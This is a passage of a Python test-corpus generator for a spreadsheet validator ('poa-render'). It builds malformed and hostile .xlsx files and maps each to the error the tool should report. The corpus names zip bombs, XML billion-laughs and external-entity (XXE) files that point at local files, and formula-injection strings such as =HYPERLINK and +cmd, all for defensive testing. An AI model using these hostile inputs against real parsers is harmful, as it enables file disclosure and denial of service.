    rows[2] = [None, None, None, "UNIDAD EJECUTORA: 201 DEPARTAMENTO DE PROMOCIÓN INDUSTRIAL"]  # not in column A
    write_zip(path, capture_parts([("201 Promoción", rows)]))


def _empty_sheet(path: Path) -> None:
    write_zip(path, xlsx_parts([("GENERAL", sheet_xml(GENERAL_ROWS)), ("201 Promoción", sheet_xml(unit_rows()[0])),
                                ("Hoja1", sheet_xml([]))]))


def _untitled_column(path: Path) -> None:
    rows, first = unit_rows()
    rows[first - 1] = goal_row(obs="Se cumplió") + [None, 7]
    write_zip(path, capture_parts([("201 Promoción", rows)]))


BAD_NUMBERS = {
    "meta": "setenta y dos",
    "p1": -12,
    "a1": "nan",
    "p2": "inf",
    "a2": Raw("<v>1e309</v>"),  # a number too big for a float: reads as infinity
    "p3": "NaN",
    "a3": "1e309",
    "p4": "-inf",
}


def _giant_merge(path: Path) -> None:
    """One merge over the whole sheet: the header reads as its top-left label everywhere."""
    rows, _ = unit_rows()
    write_zip(path, capture_parts([("201 Promoción", rows)], merges={"201 Promoción": ["A1:XFD1048576"]}))


def _bad_numbers(path: Path) -> None:
    row = goal_row()
    for key, value in BAD_NUMBERS.items():
        row[list(COL).index(key)] = value
    huge = goal_row(numero="305", meta=1e300, p=(1e300, 0, 0, 0), a=(1e300, 0, None, None))
    tiny = goal_row(numero="306", meta="9" * 400, p=("9" * 400, 0, 0, 0), a=("1", 0, None, None))
    date_serial = goal_row(numero="307", meta=Raw('s="1"|<v>1e12</v>'))
    rows, _ = unit_rows(goals=[row, huge, tiny, date_serial])
    write_zip(path, capture_parts([("201 Promoción", rows)]))


ODD_DATES = ("31/02/2023", "mañana", "30-jun.-23", "99/99/9999", "2023-13-45", "0", "1e309")


def _raw_nan(path: Path) -> None:
    """``nan`` stored as a number: no spreadsheet writes it, a careless generator may."""
    rows, first = unit_rows()
    rows[first - 1][6] = Raw("<v>nan</v>")
    rows[first - 1][7] = Raw("<v>inf</v>")
    write_zip(path, capture_parts([("201 Promoción", rows)]))


def _odd_dates(path: Path) -> None:
    general = [list(r) for r in GENERAL_ROWS]
    general[3][1] = "31/02/2023"
    general.append(["FECHA", "30-jun.-23"])  # a second FECHA: the first one counts
    rows, first = unit_rows()
    rows[first - 1][4] = "30/06/2023"  # a date where a number goes
    rows[first - 1][5] = Raw('s="1"|<v>45107</v>')  # a date-formatted number
    write_zip(path, capture_parts([("201 Promoción", rows)], general=general))


def _date_of_another_period(path: Path) -> None:
    """FECHA of a copied workbook: a year and a quarter after the one reported (issue #11)."""
    general = [list(r) for r in GENERAL_ROWS]
    general[3][1] = "30/09/2024"
    write_zip(path, capture_parts(general=general))


def _untouched_quarter(path: Path) -> None:
    """Next quarter's workbook left as `plantilla --desde` made it: no ALCANZADO of the quarter (issue #11)."""
    goals = [goal_row(numero=str(300 + i), a=(12, None, None, None)) for i in range(3)]
    rows, _ = unit_rows(goals=goals)
    write_zip(path, capture_parts([("201 Promoción", rows)]))


def _formulas(path: Path) -> None:
    rows, first = unit_rows()
    rows[first - 1][4] = Raw("<f>SUM(F9,H9,J9,L9)</f>")
    rows[first - 1][6] = Raw("<f>F9</f><v></v>")
    general = [list(r) for r in GENERAL_ROWS]
    general[1][1] = Raw("<f>YEAR(TODAY())</f>")
    write_zip(path, capture_parts([("201 Promoción", rows)], general=general))


def _no_general(path: Path) -> None:
    parts = capture_parts()
    sheets = [("201 Promoción", unit_rows()[0])]
    write_zip(path, xlsx_parts([(n, sheet_xml(r)) for n, r in sheets]))
    del parts


def _general_nonsense(path: Path) -> None:
    general = [
        ["AYUNTAMIENTO"],
        ["EJERCICIO", "dos mil veintitrés"],
        ["TRIMESTRE", 7],
        ["BASE DEL PORCENTAJE", "la que sea"],
        ["TOLERANCIA", "mucha"],
        ["CORREO TESORERÍA", "tesoreria@@mexicali"],
        ["FECHA", -5],
    ]
    write_zip(path, capture_parts(general=general))


def _general_only_junk(path: Path) -> None:
    """GENERAL present but holding nothing the tool knows; no unit sheets at all."""
    junk = [["🎉", 1e308, None, "=1"], [None, None, Raw("<f>A1</f>")], [True, False]]
    write_zip(path, xlsx_parts([("GENERAL", sheet_xml(junk)), ("_oculta", sheet_xml([["x"]]))]))


def _csv(path: Path) -> None:
    path.write_bytes(CSV_TEXT.encode("latin-1"))


CORPUS: list[Entry] = [
    Entry("no-es-zip.xlsx", "bytes al azar con extensión .xlsx", _bytes(random.Random(1).randbytes(5000)),
          fatal="formato-desconocido"),
    Entry("vacio.xlsx", "archivo de 0 bytes", _bytes(b""), fatal="archivo-vacio"),
    Entry("truncado.xlsx", "un .xlsx cortado al 60 % (como un adjunto incompleto)", _truncated, fatal="archivo-danado"),
    Entry("parte-danada.xlsx", "directorio del zip intacto, bytes de una hoja alterados", _corrupt_member,
          fatal="archivo-danado"),
    Entry("zip-version-14.8.xlsx", "un .zip cuyo directorio pide la versión 14.8 del formato, que nadie escribe",
          _zip_version, fatal="archivo-danado"),
    Entry("antiguo.xls", "libro de Excel 97-2003 (OLE2 con flujo Workbook)",
          _bytes(compound_file({"Workbook": biff8_workbook_stream()})), fatal="formato-xls"),
    Entry("antiguo-renombrado.xlsx", "un .xls con la extensión cambiada a .xlsx",
          _bytes(compound_file({"Workbook": biff8_workbook_stream()})), fatal="formato-xls"),
    Entry("libreoffice.ods", "hoja de cálculo OpenDocument", _ods, fatal="formato-ods"),
    Entry("csv-renombrado.xlsx", "un CSV (latin-1) con extensión .xlsx", _csv, fatal="formato-texto"),
    Entry("protegido.xlsx", "libro con contraseña de apertura (OLE2 con EncryptionInfo y EncryptedPackage)",
          _bytes(compound_file(encrypted_package_streams())), fatal="archivo-protegido"),
    Entry("bomba-zip.xlsx", "una parte que declara inflarse a 1 GiB", _bomb_honest, fatal="archivo-demasiado-grande"),
    Entry("bomba-zip-tamano-falso.xlsx", "una parte que declara 4 KB y se infla a 1 GiB", _bomb_lying,
          fatal="archivo-demasiado-grande"),
    Entry("bomba-zip-partes.xlsx", "30 000 partes vacías", _bomb_members, fatal="archivo-demasiado-grande"),
    Entry("bomba-zip-bzip2.xlsx", "una parte comprimida con bzip2", _bomb_bzip2, fatal="archivo-danado"),
    Entry("xml-billion-laughs.xlsx", "expansión de entidades XML en la hoja de una unidad", _billion_laughs,
          fatal="xml-peligroso"),
    Entry("xml-entidad-externa.xlsx", "entidad externa que apunta a un archivo local, en la hoja", _xxe_sheet,
          fatal="xml-peligroso"),
    Entry("xml-entidad-externa-cadenas.xlsx", "entidad externa en sharedStrings.xml", _xxe_shared_strings,
          fatal="xml-peligroso"),
    Entry("xml-entidad-externa-libro.xlsx", "entidad externa en workbook.xml (nombre de hoja)", _xxe_workbook,
          fatal="xml-peligroso"),
    Entry("filas-100000.xlsx", "una hoja de unidad con 100 000 metas", _many_rows,
          fatal="hoja-demasiado-grande", big=True),
    Entry("fila-lejana.xlsx", "un valor suelto en la fila 1 048 576", _far_row, fatal="hoja-demasiado-grande"),
    Entry("hojas-2000.xlsx", "2 000 hojas de unidad", _many_sheets, fatal="demasiadas-hojas", big=True),
    Entry("celdas-50000-caracteres.xlsx", "celdas de 50 000 caracteres (Excel admite 32 767)", _long_cells,
          fatal="texto-demasiado-largo"),
    Entry("control-emoji-cjk.xlsx", "caracteres de control, emoji, CJK y texto bidireccional", _control_chars,
          problems=[("numero-invalido", "201 Promoción 🎉", "E9")]),
    Entry("inyeccion-formulas.xlsx", "textos que parecen fórmulas (=HYPERLINK, +cmd, @SUM) en OBSERVACIONES",
          _injection, problems=[("numero-invalido", "201 Promoción", "E14")]),
    Entry("nombres-de-hoja.xlsx", "nombres de hoja con / \\ : * ? [ ] y nombres reservados", _weird_sheet_names,
          problems=[("numero-invalido", "PRN?/..", "E9")]),
    Entry("unidades-duplicadas.xlsx", "tres hojas con el mismo RAMO y UNIDAD EJECUTORA", _duplicates,
          problems=[("unidad-duplicada", "201 B", "B3"), ("unidad-duplicada", "201 C", "B3")]),
    Entry("celdas-combinadas.xlsx", "celdas combinadas sobre los datos", _merged_over_data,
          problems=[("meta-anual-faltante", "201 Promoción", "E10")]),
    Entry("combinada-gigante.xlsx", "una celda combinada que cubre la hoja entera (A1:XFD1048576)", _giant_merge,
          problems=[("columna-faltante", "201 Promoción", "A8")]),
    Entry("meta-despues-de-firmas.xlsx", "una meta escrita debajo de las firmas", _goal_after_signatures,
          problems=[("fila-despues-de-firmas", "201 Promoción", "A15")]),
    Entry("meta-en-encabezado.xlsx", "una meta escrita en el encabezado de la unidad, arriba de la tabla",
          _goal_in_header_block, problems=[("fila-en-encabezado", "201 Promoción", "E7")]),
    Entry("hoja-ajena.xlsx", "un libro de captura con una hoja de seguimiento de otra oficina", _foreign_sheet,
          problems=[("hoja-no-es-unidad", "Seguimiento", "A1")]),
    Entry("libro-ajeno.xlsx", "un seguimiento del POA de otra oficina, sin nada del libro de captura",
          _foreign_workbook, problems=[("libro-no-es-de-captura", "POA 2024", "A1")]),
    Entry("encabezado-en-una-celda.xlsx", "encabezado de la unidad con etiqueta y valor en una celda, uno sin clave "
          "y otro fuera de la columna A", _header_in_one_cell,
          problems=[("campo-faltante", "201 Promoción", "A2"), ("campo-fuera-de-lugar", "201 Promoción", "D3")]),
    Entry("hoja-vacia.xlsx", "un libro de captura con una hoja vacía", _empty_sheet, exit_code=0),
    Entry("columna-sin-titulo.xlsx", "un número en una columna sin título, a la derecha de la tabla", _untitled_column,
          exit_code=0),
    Entry("numeros-invalidos.xlsx", "texto, negativos, nan, inf y 1e309 en celdas de número", _bad_numbers,
          problems=[("numero-invalido", "201 Promoción", "E9"), ("numero-negativo", "201 Promoción", "F9"),
                    ("numero-invalido", "201 Promoción", "G9"), ("numero-invalido", "201 Promoción", "H9"),
                    ("numero-invalido", "201 Promoción", "I9"), ("numero-invalido", "201 Promoción", "J9"),
                    ("numero-invalido", "201 Promoción", "K9"), ("numero-invalido", "201 Promoción", "L9"),
                    ("numero-invalido", "201 Promoción", "E10"), ("numero-invalido", "201 Promoción", "E11"),
                    ("numero-invalido", "201 Promoción", "E12")]),
    Entry("nan-como-numero.xlsx", "nan e inf guardados como números en el XML de la hoja", _raw_nan,
          fatal="archivo-danado"),
    Entry("fechas-raras.xlsx", "fechas como texto raro y fechas donde va un número", _odd_dates,
          problems=[("dato-general-invalido", "GENERAL", "B4"), ("numero-invalido", "201 Promoción", "E9")]),
    Entry("fecha-de-otro-periodo.xlsx", "FECHA de un libro copiado: un año después del trimestre reportado",
          _date_of_another_period, problems=[("fecha-fuera-del-periodo", "GENERAL", "B4")]),
    Entry("trimestre-sin-capturar.xlsx", "el alcanzado del trimestre reportado en blanco en todas las metas",
          _untouched_quarter, problems=[("trimestre-sin-capturar", "201 Promoción", "I9")]),
    Entry("formulas-sin-valor.xlsx", "fórmulas sin valor calculado guardado", _formulas,
          problems=[("formula-sin-valor", "GENERAL", "B2"), ("formula-sin-valor", "201 Promoción", "E9"),
                    ("formula-sin-valor", "201 Promoción", "G9")]),
    Entry("sin-hoja-general.xlsx", "sin hoja GENERAL", _no_general,
          problems=[("hoja-general-faltante", "201 Promoción", "A1")]),
    Entry("general-sin-sentido.xlsx", "hoja GENERAL con valores sin sentido", _general_nonsense,
          problems=[("dato-general-faltante", "GENERAL", "B1"), ("dato-general-invalido", "GENERAL", "B2"),
                    ("dato-general-invalido", "GENERAL", "B3"), ("dato-general-invalido", "GENERAL", "B4"),
                    ("dato-general-invalido", "GENERAL", "B5"), ("correo-invalido", "GENERAL", "B6"),
                    ("dato-general-invalido", "GENERAL", "B7")]),
    Entry("general-basura.xlsx", "hoja GENERAL con basura y ninguna hoja de unidad", _general_only_junk,
          problems=[("dato-general-faltante", "GENERAL", None), ("sin-unidades", "GENERAL", "A1")]),
]



def _formula_sheet_at_cell_limit(path: Path) -> None:
    """The slowest kind of workbook the limits let through: formulas without values, no <dimension>,
    in as few sheets as the row limit allows."""
    from poa_xlsx.xlsx import archivo as xlsxfile

    per_row = 19
    sheets = -(-xlsxfile.MAX_CELLS // (per_row * (xlsxfile.MAX_ROW - 100)))
    goals = (xlsxfile.MAX_CELLS - 200 * sheets) // (per_row * sheets)
    parts = [("GENERAL", sheet_xml(GENERAL_ROWS))]
    for i in range(sheets):
        rows, _ = unit_rows(ue=str(201 + i), goals=[[Raw("<f>A1</f>")] * per_row for _ in range(goals)])
        parts.append((f"{201 + i} X", sheet_xml(rows)))
    write_zip(path, xlsx_parts(parts))


def _sheets_at_sheet_limit(path: Path) -> None:
    from poa_xlsx.xlsx import archivo as xlsxfile

    sheets = [("GENERAL", sheet_xml(GENERAL_ROWS))]
    for i in range(xlsxfile.MAX_SHEETS - 1):
        sheets.append((f"U{i}", sheet_xml(unit_rows(ue=str(1000 + i))[0])))
    write_zip(path, xlsx_parts(sheets))


# Workbooks just inside the limits: read, not refused (exit 0 or 1, never "demasiado").
# Not in CORPUS (not in the messages' catalogue); tests bound their memory and
# benchmarks/hostiles.py their time.
AT_THE_LIMITS: list[Entry] = [
    Entry("limite-celdas-formulas.xlsx", "400 000 celdas con fórmulas sin valor, en las pocas hojas que permite el "
          "límite de filas", _formula_sheet_at_cell_limit, exit_code=1, big=True),
    Entry("limite-hojas.xlsx", "999 hojas de unidad", _sheets_at_sheet_limit, exit_code=1, big=True),
]

BY_NAME = {e.name: e for e in CORPUS}


def write_corpus(folder: str | os.PathLike[str], *, include_big: bool = True) -> list[Path]:
    """Write every corpus file into ``folder``; return their paths in corpus order."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    return [e.write(folder) for e in CORPUS if include_big or not e.big]


# ---------------------------------------------------------------------------
# the transcript: docs/mensajes.md


def codes_section() -> list[str]:
    """Every code the tool can emit, from the registries in poa_xlsx.problems (a test checks
    that the code cannot emit one that is not there, and that each is in docs/mensajes.md)."""
    from poa_xlsx.problems import ADVERTENCIAS, CODES, LIBRO_CODES

    lines = [
        "## Todos los códigos",
        "",
        "Cada mensaje lleva su código entre corchetes (`[numero-invalido]`); `poa-render validar --json` lo da en "
        "`codigo`. Los códigos no cambian de una versión a otra.",
        "",
        "Libro que no se puede leer (se informa un solo error y no se revisa nada más):",
        "",
        "| código | qué significa |",
        "|---|---|",
        *(f"| `{code}` | {text} |" for code, text in LIBRO_CODES.items()),
        "",
        "Problemas de los datos, con hoja y celda (las advertencias no impiden generar el reporte; con "
        "`--estricto` cuentan como errores):",
        "",
        "| código | gravedad | qué significa |",
        "|---|---|---|",
        *(f"| `{code}` | {'advertencia' if code in ADVERTENCIAS else 'error'} | {text} |" for code, text in CODES.items()),
        "",
        "Abajo, lo que `poa-render validar` responde ante cada archivo del corpus de libros dañados, de otro "
        "formato u hostiles.",
        "",
    ]
    return lines


def transcript(folder: Path) -> str:
    """``poa-render validar`` on each corpus file, as Markdown."""
    import subprocess
    import time

    lines = [
        "# Catálogo de mensajes",
        "",
        "Catálogo de mensajes: lo que `poa-render validar` responde ante libros dañados, de otro formato u hostiles.",
        "",
        "Generado con `python tests/corpus.py --transcript docs/mensajes.md` (los archivos los crea "
        "`tests/corpus.py`; no se guardan en el repositorio). Código de salida 1 = datos inválidos.",
        "",
    ]
    lines += codes_section()
    for entry in CORPUS:
        path = entry.write(folder)
        started = time.monotonic()
        done = subprocess.run(
            [sys.executable, "-m", "poa_xlsx.cli", "validar", path.name],
            cwd=folder, capture_output=True, text=True, encoding="utf-8",
            env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
        )
        elapsed = time.monotonic() - started
        output = (done.stdout + done.stderr).rstrip()
        if len(output.splitlines()) > 40:
            kept = output.splitlines()
            output = "\n".join(kept[:30] + [f"… ({len(kept) - 35} líneas más) …"] + kept[-5:])
        lines += [
            f"## `{entry.name}`",
            "",
            f"{entry.description[0].upper()}{entry.description[1:]}. Código de salida: {done.returncode}.",
            "",
            "```console",
            f"$ poa-render validar {entry.name}",
            output,
            "```",
            "",
        ]
        print(f"{entry.name}: {done.returncode} ({elapsed:.1f} s)", file=sys.stderr)
        path.unlink()
    lines += _import_transcript(folder)
    return "\n".join(lines)


def _import_transcript(folder: Path) -> list[str]:
    """``poa-render importar`` on a monthly follow-up sheet with a row that names no unit."""
    import importlib.util
    import subprocess

    from openpyxl import load_workbook

    root = Path(__file__).resolve().parent.parent
    spec = importlib.util.spec_from_file_location("build_importar", root / "examples" / "importar" / "build_importar.py")
    assert spec and spec.loader
    builder = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(builder)
    source = builder.build_mensual(Path(folder) / "seguimiento.xlsx")
    wb = load_workbook(source)
    wb.active["A5"] = None  # the second goal names no unit
    wb.active["H4"] = "pendiente"
    wb.save(source)
    shutil_map = Path(folder) / "mensual.toml"
    shutil_map.write_bytes((root / "examples" / "importar" / "mensual.toml").read_bytes())
    done = subprocess.run(
        [sys.executable, "-m", "poa_xlsx.cli", "importar", source.name, "--mapa", shutil_map.name, "-o", "libro.xlsx"],
        cwd=folder, capture_output=True, text=True, encoding="utf-8",
        env={**os.environ, "PYTHONPATH": str(root)},
    )
    source.unlink()
    shutil_map.unlink()
    return [
        "## `poa-render importar`: renglones que no se pueden acomodar",
        "",
        "El seguimiento mensual de `examples/importar/` con un renglón sin unidad y una cifra «pendiente»: "
        f"no se escribe nada (vea docs/importar.md). Código de salida: {done.returncode}.",
        "",
        "```console",
        "$ poa-render importar seguimiento.xlsx --mapa mensual.toml -o libro.xlsx",
        (done.stdout + done.stderr).rstrip(),
        "```",
        "",
    ]


def main(argv: list[str] | None = None) -> int:
    import argparse
    import tempfile

    parser = argparse.ArgumentParser(description="Escribe el corpus de libros dañados u hostiles.")
    parser.add_argument("carpeta", nargs="?", help="carpeta donde escribir los archivos")
    parser.add_argument("--transcript", metavar="ARCHIVO.md", help="escribe el catálogo de mensajes de validar")
    parser.add_argument("--sin-grandes", action="store_true", help="omite los archivos grandes (100 000 filas, 2 000 hojas)")
    args = parser.parse_args(argv)
    if args.transcript:
        with tempfile.TemporaryDirectory() as tmp:
            Path(args.transcript).write_text(transcript(Path(tmp)) + "\n", encoding="utf-8")
        return 0
    if not args.carpeta:
        parser.error("indique una carpeta o --transcript")
    for path in write_corpus(args.carpeta, include_big=not args.sin_grandes):
        print(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
